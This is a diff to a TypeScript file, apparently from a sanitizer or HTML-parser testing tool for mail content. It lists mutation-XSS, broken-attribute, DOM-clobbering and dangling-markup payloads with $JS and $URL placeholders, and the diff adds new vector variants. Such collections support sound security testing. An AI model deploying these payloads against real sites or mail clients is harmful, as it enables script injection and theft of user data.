@@ -30,7 +30,7 @@ const mutations: Payload[] = [
   '<svg><xmp><img src=x onerror=$JS></xmp></svg>',
   '<svg><noscript><img src=x onerror=$JS></noscript></svg>',
   '<svg><title><img src=x onerror=$JS></title></svg>',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=$JS>"></math>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=$JS>"></math><img src=x onerror=$JS>',
   '<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=$JS>">',
   '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=$JS>',
   '<math><mtext><mglyph><style><math><img src=x onerror=$JS>',
@@ -76,7 +76,7 @@ const comments: Payload[] = [
 ]
 
 const broken: Payload[] = [
-  '<img src=x onerror=$JS x="',
+  '<img src=x onerror=$JS x="><p title=">">',
   '<p title="x><img src=x onerror=$JS>',
   "<p title='\"><img src=x onerror=$JS>'><img src=x onerror=$JS>",
   '<p title="&quot;><img src=x onerror=$JS>"><img src=x onerror=$JS>',
@@ -148,4 +148,13 @@ const dangling: Payload[] = [
   '<link rel=stylesheet href="$URL?',
 ]
 
-export const parsers: Payload[] = [...mutations, ...comments, ...broken, ...clobbering, ...dangling]
+/** What stands after them in a mail: it closes what they left open. */
+const after = ` what comes after <p class="a" title='b'>y</p>`
+
+export const parsers: Payload[] = [
+  ...mutations,
+  ...comments,
+  ...broken,
+  ...clobbering,
+  ...dangling.map((payload) => payload + after),
+]
